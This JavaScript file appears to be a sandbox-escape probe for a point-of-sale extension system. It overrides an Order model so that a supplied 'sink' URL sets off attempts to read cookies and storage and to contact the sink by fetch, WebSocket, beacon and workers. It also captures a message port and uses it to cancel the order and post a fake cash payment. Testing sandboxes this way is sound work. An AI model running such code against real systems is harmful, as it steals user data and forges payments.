// What a file might try in a page to get at more than the models. What it finds it writes into its own field.
var Base = models.Order.prototype;
var inPage = typeof Intl === "object"; // a stand-in on the server
var all = inPage ? (function () { return this; })() : null;
var port = null;
if (inPage) {
    var data = Object.getOwnPropertyDescriptor(all.MessageEvent.prototype, "data");
    Object.defineProperty(all.MessageEvent.prototype, "data", {
        get: function () {
            if (this.target && this.target.postMessage) { port = this.target; }
            return data.get.call(this);
        },
    });
}

function spy(order, sink) {
    var found = [], tried = 0, waits = [];
    // Each attempt gives what it found: at once, by a promise, or by done.
    function attempt(name, work) {
        tried++;
        waits.push(new Promise(function (resolve) { resolve(work(resolve)); }).then(function (what) {
            if (what !== undefined && what !== null) { found.push(name + ": " + what); }
        }, function () {}));
    }
    // until is what an attempt waits for, whose things tell of themselves by events.
    function until(make, good, bad) {
        return new Promise(function (resolve, reject) {
            var thing = make();
            good.forEach(function (event) { thing["on" + event] = function () { resolve(event); }; });
            bad.forEach(function (event) { thing["on" + event] = reject; });
            if (thing.send) { thing.open("GET", sink + "/xhr"); thing.send(); }
        });
    }
    attempt("localStorage", function () { return all.localStorage.getItem("manytill.pos.bar"); });
    attempt("sessionStorage", function () { return all.sessionStorage.length; });
    attempt("cookie", function () { return all.document.cookie; });
    attempt("cookieStore", function () { return all.cookieStore.getAll().then(function (c) { return c.length; }); });
    attempt("indexedDB", function () { return until(function () { return all.indexedDB.open("manytill-page"); }, ["success", "upgradeneeded"], ["error", "blocked"]); });
    attempt("databases", function () { return all.indexedDB.databases().then(function (d) { return d.length; }); });
    attempt("caches", function () { return all.caches.keys().then(function (k) { return k.length; }); });
    attempt("directory", function () { return all.navigator.storage.getDirectory().then(function () { return "there"; }); });
    attempt("locks", function () { return all.navigator.locks.query().then(function () { return "there"; }); });
    attempt("fetch", function () { return all.fetch(sink + "/fetch", { mode: "no-cors" }).then(function () { return "sent"; }); });
    attempt("own server", function () { return all.fetch("/v1/info").then(function () { return "sent"; }); });
    attempt("data", function () { return all.fetch("data:,x").then(function () { return "read"; }); });
    attempt("xhr", function () { return until(function () { return new all.XMLHttpRequest(); }, ["load"], ["error", "abort"]); });
    attempt("websocket", function () { return until(function () { return new all.WebSocket(sink.replace("http", "ws")); }, ["open"], ["error", "close"]); });
    attempt("eventsource", function () { return until(function () { return new all.EventSource(sink + "/events"); }, ["open", "message"], ["error"]); });
    attempt("webtransport", function () { return new all.WebTransport(sink.replace("http", "https")).ready.then(function () { return "open"; }); });
    attempt("beacon", function () { return all.navigator.sendBeacon(sink + "/beacon"); });
    attempt("importScripts", function () { all.importScripts(sink + "/script.js"); return "read"; });
    attempt("importScripts of data", function () { all.importScripts("data:text/javascript,self.imported=1"); return all.imported; });
    attempt("a worker of another address", function () { return until(function () { return new all.Worker(sink + "/worker.js"); }, ["message"], ["error"]); });
    attempt("a worker of its own", function () {
        var text = "fetch(" + JSON.stringify(sink + "/nested") + ", {mode: 'no-cors'}).then(function () { postMessage('sent'); }, function () { postMessage(null); })";
        return new Promise(function (resolve, reject) {
            var worker = new all.Worker("data:text/javascript," + encodeURIComponent(text));
            worker.onmessage = function (e) { resolve(data.get.call(e)); };
            worker.onerror = reject;
        });
    });
    attempt("eval", function () { return all.eval("1"); });
    attempt("Function", function () { return (function () {}).constructor("return 1")(); });
    attempt("parent", function () { return all.parent.document.title; });
    attempt("top", function () { return String(all.top.location); });
    attempt("opener", function () { return all.opener.location; });
    attempt("clients", function () { return all.clients.matchAll(); });
    attempt("origin", function () { return all.origin === "null" ? undefined : all.origin; });
    attempt("address", function () { return /^(data|blob):/.test(all.location.href) ? undefined : all.location.href; });
    attempt("others' code", function () { return all.manytillExtensions && all.manytillExtensions.length; });
    attempt("messages to the frame", function () { all.postMessage({ id: 1, index: 0 }); });
    // With the port in hand it may say what models say, and nothing else.
    attempt("port", function () {
        port.postMessage({ is: "eval", code: "document.title = 'mine'" });
        port.postMessage({ is: "do", n: 1000, ops: [{ op: "order.close", order: order.uid, state: "cancelled" }] });
        port.postMessage({ is: "do", n: 1001, ops: [{ op: "order.set", order: order.uid, set: { first_new_variable: "mine" } }] });
        port.postMessage({ is: "do", n: 1002, ops: [{ op: "order.pay", order: order.uid, payment: { id: "free", method: "cash", amount: 99 } }] });
    });
    Promise.all(waits).then(function () {
        order.report = tried + " tried, found: " + (found.join("; ") || "nothing") + (port ? "" : "; no port");
        order.trigger("new_updates_to_send");
    });
}

models.Order = models.Order.extend({
    init_from_JSON: function (json) {
        Base.init_from_JSON.apply(this, arguments);
        this.sink = json.sink;
        this.report = json.report;
    },
    apply_ms_data: function (json) {
        this.sink = json.sink;
        this.report = json.report;
        if (inPage && typeof json.sink === "string" && json.sink.indexOf("http") === 0 && !json.report && !this.spying) {
            this.spying = true;
            spy(this, json.sink);
        }
    },
    export_as_JSON: function () {
        var json = Base.export_as_JSON.apply(this, arguments);
        json.sink = this.sink;
        json.report = this.report;
        return json;
    },
});
